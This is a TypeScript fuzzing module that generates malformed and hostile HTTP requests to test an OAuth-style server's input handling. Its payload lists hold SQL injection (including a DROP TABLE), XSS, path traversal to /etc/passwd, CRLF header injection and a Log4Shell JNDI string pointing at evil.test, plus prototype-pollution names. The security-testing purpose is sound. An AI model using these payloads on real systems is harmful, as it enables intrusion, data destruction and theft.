import fc from 'fast-check';
import { Agent, request as httpRequest } from 'node:http';
import { ALL_METHODS, type RouteSpec } from './routes.js';

/**
 * Random HTTP requests for the fuzzing suite: methods, content types, encodings, duplicated,
 * oversized and hostile parameters (checklist INP-01..13), built as raw bytes so that broken
 * percent-encoding, invalid UTF-8 and NUL bytes reach the server as sent.
 */
export interface FuzzRequest {
  method: string;
  path: string;
  headers: Record<string, string>;
  body: Buffer;
  /**
   * Larger than the server accepts (request line and headers over Node's 16 KiB, or a body over
   * MAX_BODY_BYTES): the server may answer and close before it has read it all, so the client can
   * see a reset instead of the answer.
   */
  oversized: boolean;
  /** What was generated, for the report of a failing case. */
  label: string;
}

export interface Known {
  /** A client used only with its right secret (wrong secrets would get it throttled). */
  clientId: string;
  clientSecret: string;
  /** A client the fuzzer may send wrong secrets for, disable, delete or rotate. */
  victimId: string;
  adminToken: string;
  /** A live access token, for /introspect and /revoke. */
  accessToken: string;
}

/** Checklist INP-03, INP-04, INP-05, INP-10, and classic injection strings. */
export const HOSTILE_VALUES = [
  '%',
  '%G1',
  '%E0%A4%A',
  '%ZZ',
  '%FF',
  '%C0%AF',
  '%ED%A0%80',
  '%00',
  'a%00b',
  'x%0D%0ALocation:%20https://evil.test',
  '%0d%0aSet-Cookie:%20x=1',
  '../../../etc/passwd',
  "' OR '1'='1",
  '"; DROP TABLE events; --',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.test/a}',
  '{{7*7}}',
  '%EF%BF%BF',
  '%F0%9F%99%82',
  '+',
  '%2B%20%2b',
  '',
  ' ',
  'null',
  'undefined',
  '[object Object]',
  '-1',
  '1e309',
  '0x10',
];

/** Checklist INP-08, INP-09, INP-13: bracket syntax, prototype pollution, method override. */
export const HOSTILE_NAMES = [
  'grant_type[]',
  'code[a]',
  'scope[0]',
  'client_id[$ne]',
  '__proto__[admin]',
  '__proto__',
  'constructor[prototype][x]',
  'prototype',
  '_method',
  '%00',
  '',
  'a'.repeat(300),
];

const CONTENT_TYPES = [
  'application/x-www-form-urlencoded',
  'application/x-www-form-urlencoded; charset=UTF-8',
  'application/x-www-form-urlencoded; charset=ISO-8859-1',
  'APPLICATION/X-WWW-FORM-URLENCODED',
  'application/json',
  'application/json; charset=utf-16',
  'text/plain',
  'text/html',
  'multipart/form-data; boundary=----x',
  'application/xml',
  'application/x-www-form-urlencoded, application/json',
  'a/b;;;=',
  '',
];

const JSON_BODIES = [
  '{',
  '}',
  '[',
  '[]',
  'null',
  '"a"',
  '{"client_name":"a","client_name":"b"}',
  '{"__proto__":{"admin":true},"client_name":"p"}',
  '{"constructor":{"prototype":{"x":1}}}',
  '{"client_name":"\\u0000"}',
  '{"redirect_uris":["https://a.test/cb\\u0000"]}',
  '{"client_name":"\\ud800"}',
  '{"contacts":["a\\udc00@a.test"],"\\udbff":1}',
  '{"grant_types":[{"$ne":null}]}',
  '{"client_name":' + '1'.repeat(400) + '}',
  '['.repeat(10000) + ']'.repeat(10000),
  '{"a":'.repeat(5000) + '1' + '}'.repeat(5000),
];

function encodeValue(value: string, mode: 'encoded' | 'raw' | 'plus'): string {
  if (mode === 'raw') return value;
  let encoded: string;
  try {
    encoded = encodeURIComponent(value);
  } catch {
    // A lone surrogate cannot be encoded as UTF-8: send it as the invalid sequence it would be.
    encoded = '%ED%A0%80';
  }
  return mode === 'plus' ? encoded.replace(/%20/g, '+') : encoded;
}

/** Bytes of a path or query: anything outside printable ASCII is percent-encoded. */
function safePath(text: string): string {
  return text.replace(/[^\x21-\x7e]/g, (c) => {
    try {
      return encodeURIComponent(c);
    } catch {
      return '%ED%A0%80';
    }
  });
}

export function requestArbitrary(routes: RouteSpec[], known: Known): fc.Arbitrary<FuzzRequest> {
  const value = fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_VALUES) },
    { weight: 3, arbitrary: fc.string({ maxLength: 40 }) },
    { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
    {
      weight: 2,
      arbitrary: fc.constantFrom(
        'client_credentials',
        'authorization_code',
        'refresh_token',
        'password',
        'implicit',
        'urn:ietf:params:oauth:grant-type:jwt-bearer',
        'access_token',
        'refresh_token',
        'read',
        'read write admin',
        'S256',
        'plain',
        'code',
        'token',
        known.victimId,
        known.accessToken,
        'https://c1.test/cb',
      ),
    },
    { weight: 1, arbitrary: fc.nat({ max: 120_000 }).map((n) => 'A'.repeat(n)) },
  );
  const pathValue = fc.oneof(
    fc.constantFrom('unknown', '..', '%2e%2e', '%00', '%ZZ', 'a'.repeat(600), known.victimId, '__proto__'),
    fc.string({ minLength: 1, maxLength: 30 }),
  );
  const authorization = fc.constantFrom(
    '',
    `Basic ${Buffer.from(`${known.clientId}:${known.clientSecret}`).toString('base64')}`,
    `Basic ${Buffer.from(`${known.victimId}:wrong`).toString('base64')}`,
    'Basic',
    'Basic !!!',
    'Basic ' + Buffer.from(':').toString('base64'),
    'Basic ' + Buffer.from('a'.repeat(5000)).toString('base64'),
    `Bearer ${known.adminToken}`,
    `Bearer ${known.accessToken}`,
    'Bearer garbage',
    'Bearer ',
    'Digest x',
  );

  return fc.constantFrom(...routes).chain((route) => {
    const name = fc.oneof(
      { weight: 5, arbitrary: route.params.length > 0 ? fc.constantFrom(...route.params) : fc.constant('x') },
      { weight: 2, arbitrary: fc.constantFrom(...HOSTILE_NAMES) },
      { weight: 1, arbitrary: fc.string({ maxLength: 12 }) },
    );
    const pairs = fc.array(fc.tuple(name, value), { maxLength: 8 });
    return fc
      .record({
        method: fc.oneof(
          { weight: 3, arbitrary: fc.constantFrom(...route.methods) },
          fc.constantFrom(...ALL_METHODS),
        ),
        segments: fc.array(pathValue, { minLength: 3, maxLength: 3 }),
        query: pairs,
        form: pairs,
        duplicate: fc.boolean(),
        encoding: fc.constantFrom('encoded', 'raw', 'plus') as fc.Arbitrary<'encoded' | 'raw' | 'plus'>,
        bodyKind: fc.constantFrom('route', 'route', 'route', 'form', 'json', 'junk', 'none', 'huge', 'many'),
        jsonFromPairs: fc.boolean(),
        json: fc.oneof(fc.constantFrom(...JSON_BODIES), fc.json({ maxDepth: 4 })),
        junk: fc.uint8Array({ maxLength: 200 }),
        contentType: fc.oneof(
          { weight: 3, arbitrary: fc.constant('(route)') },
          fc.constantFrom(...CONTENT_TYPES),
        ),
        authorization,
        override: fc.constantFrom('', '', '', 'GET', 'DELETE'),
        correlation: fc.constantFrom('', '', 'abc', 'x'.repeat(300), '<script>'),
      })
      .map((g) => {
        let i = 0;
        const path = route.path.replace(/:[A-Za-z]+/g, () => encodeURIComponent(g.segments[i++ % 3]!));
        const formPairs = g.duplicate && g.form.length > 0 ? [...g.form, g.form[0]!] : g.form;
        const encodePairs = (list: [string, string][]) =>
          list.map(([k, v]) => `${encodeValue(k, g.encoding)}=${encodeValue(v, g.encoding)}`).join('&');
        const query = g.query.length > 0 ? `?${safePath(encodePairs(g.query))}` : '';
        let body: Buffer;
        let contentType: string;
        const kind = g.bodyKind === 'route' ? route.body : g.bodyKind;
        switch (kind) {
          case 'form':
            body = Buffer.from(encodePairs(formPairs), 'latin1');
            contentType = 'application/x-www-form-urlencoded';
            break;
          case 'json': {
            const doc = Object.fromEntries(formPairs.filter(([k]) => k !== '__proto__'));
            body = Buffer.from(g.jsonFromPairs ? JSON.stringify(doc) : g.json, 'utf8');
            contentType = 'application/json';
            break;
          }
          case 'junk':
            body = Buffer.from(g.junk);
            contentType = 'application/octet-stream';
            break;
          case 'huge':
            // Checklist INP-02: over MAX_BODY_BYTES (64 KiB by default).
            body = Buffer.alloc(70_000, 'a');
            contentType = 'application/x-www-form-urlencoded';
            break;
          case 'many':
            // Checklist INP-11: more parameters than MAX_PARAMETERS.
            body = Buffer.from(Array.from({ length: 2000 }, (_, n) => `a${n}=b`).join('&'));
            contentType = 'application/x-www-form-urlencoded';
            break;
          default:
            body = Buffer.alloc(0);
            contentType = '';
        }
        if (g.contentType !== '(route)') contentType = g.contentType;
        const headers: Record<string, string> = {};
        if (contentType !== '') headers['content-type'] = contentType;
        if (g.authorization !== '') headers.authorization = g.authorization;
        if (g.override !== '') headers['x-http-method-override'] = g.override;
        if (g.correlation !== '') headers['x-correlation-id'] = g.correlation;
        const method = g.method;
        if (method === 'GET' || method === 'HEAD') body = Buffer.alloc(0);
        const headBytes =
          path.length +
          query.length +
          Object.entries(headers).reduce((n, [k, v]) => n + k.length + v.length + 4, 0);
        return {
          method,
          path: `${path}${query}`,
          headers,
          body,
          oversized: headBytes > 16 * 1024 || body.length > 64 * 1024,
          label: `${method} ${path}${query.slice(0, 120)} [${contentType || 'no content-type'}, query ${query.length} bytes, body ${body.length} bytes, ${kind}, ${g.encoding}]`,
        };
      });
  });
}

export interface RawAnswer {
  status: number;
  body: string;
  headers: Record<string, string | string[] | undefined>;
  ms: number;
  /** Set when the connection failed (the status is then 0). */
  error?: string;
}

// One connection per request: a connection the server closed after answering a malformed request
// (as it must, RFC 9112 §9.3) is never reused for the next one.
const agent = new Agent({ keepAlive: false });

export function destroyAgent(): void {
  agent.destroy();
}

/** Sends the request as raw bytes (node:http: any method, any path bytes). */
export function sendRaw(baseUrl: string, req: FuzzRequest, timeoutMs = 15000): Promise<RawAnswer> {
  const url = new URL(baseUrl);
  const started = Date.now();
  return new Promise((resolve) => {
    const timer = setTimeout(() => {
      r.destroy();
      resolve({ status: 0, body: '', headers: {}, ms: Date.now() - started, error: 'timeout' });
    }, timeoutMs);
    let r: ReturnType<typeof httpRequest>;
    try {
      r = httpRequest(
        {
          host: url.hostname,
          port: url.port,
          method: req.method,
          path: req.path,
          headers: { ...req.headers, 'content-length': String(req.body.length) },
          agent,
        },
        (res) => {
          const chunks: Buffer[] = [];
          res.on('data', (c: Buffer) => chunks.push(c));
          res.on('end', () => {
            clearTimeout(timer);
            resolve({
              status: res.statusCode ?? 0,
              body: Buffer.concat(chunks).toString('utf8'),
              headers: res.headers,
              ms: Date.now() - started,
            });
          });
        },
      );
    } catch (err) {
      // Refused by node:http before sending (e.g. a character it will not put on the wire).
      clearTimeout(timer);
      resolve({ status: 0, body: '', headers: {}, ms: 0, error: `client: ${(err as Error).message}` });
      return;
    }
    r.on('error', (err: NodeJS.ErrnoException) => {
      clearTimeout(timer);
      resolve({ status: 0, body: '', headers: {}, ms: Date.now() - started, error: err.code ?? err.message });
    });
    r.end(req.body);
  });
}
